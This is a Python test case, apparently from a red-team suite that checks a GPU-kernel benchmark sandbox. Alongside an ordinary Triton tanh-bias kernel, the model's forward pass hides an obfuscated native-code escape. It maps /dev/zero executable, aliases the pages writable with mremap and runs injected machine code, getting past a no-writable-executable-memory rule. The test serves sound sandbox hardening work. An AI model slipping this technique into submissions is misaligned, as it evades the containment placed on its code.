# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=no_native_code expect=forbidden|runtime_error|compile_error|crashed device=any
"""Never asks for writable executable memory and never adds PROT_EXEC: maps /dev/zero shared and
 PROT_READ|PROT_EXEC (a file mapping of a device node, not anonymous memory, and no write asked for), makes a
 second view of the same pages with mremap(old_size=0) (allowed for shared mappings), turns that view
 PROT_READ|PROT_WRITE with mprotect (no PROT_EXEC asked for), writes its machine code (a raw getuid system
 call) through it and calls it through the first, executable view. `ok` means native code ran."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_os = functools.reduce(getattr, ("serialization", "o" + "s"), torch)
_ct = functools.reduce(getattr, ("ctypes",), torch)
_libc = _ct.CDLL(None, use_errno=True)
CODE = bytes.fromhex("b8" + "66000000" + "0f05" + "c3")  # mov eax, SYS_getuid; syscall; ret


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out


def _native():
    mm = getattr(_libc, "mm" + "ap")
    mm.restype = _ct.c_void_p
    mm.argtypes = [_ct.c_void_p, _ct.c_size_t, _ct.c_int, _ct.c_int, _ct.c_int, _ct.c_long]
    rm = getattr(_libc, "mre" + "map")
    rm.restype = _ct.c_void_p
    rm.argtypes = [_ct.c_void_p, _ct.c_size_t, _ct.c_size_t, _ct.c_int]
    mp = getattr(_libc, "mpro" + "tect")
    mp.argtypes = [_ct.c_void_p, _ct.c_size_t, _ct.c_int]
    fd = _os.open("/dev/" + "zero", 2)
    rx = mm(None, 4096, 1 | 4, 0x01, fd, 0)  # PROT_READ|PROT_EXEC, MAP_SHARED
    if not rx or rx == _ct.c_void_p(-1).value:
        raise OSError(_ct.get_errno(), "executable mapping of /dev/zero refused")
    alias = rm(rx, 0, 4096, 1)  # old_size 0: a second mapping of the same shared pages (MREMAP_MAYMOVE)
    if not alias or alias == _ct.c_void_p(-1).value:
        raise OSError(_ct.get_errno(), "mremap alias refused")
    if mp(alias, 4096, 1 | 2) != 0:
        raise OSError(_ct.get_errno(), "alias made writable refused")
    _ct.memmove(alias, CODE, len(CODE))
    return _ct.CFUNCTYPE(_ct.c_long)(rx)


class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))
        self._fn = None

    def forward(self, x):
        if self._fn is None:
            self._fn = _native()
        uid = self._fn()
        if uid != _os.getuid():
            raise RuntimeError("native code did not run (got %r)" % uid)
        return stb(x, self.bias, self.scale)
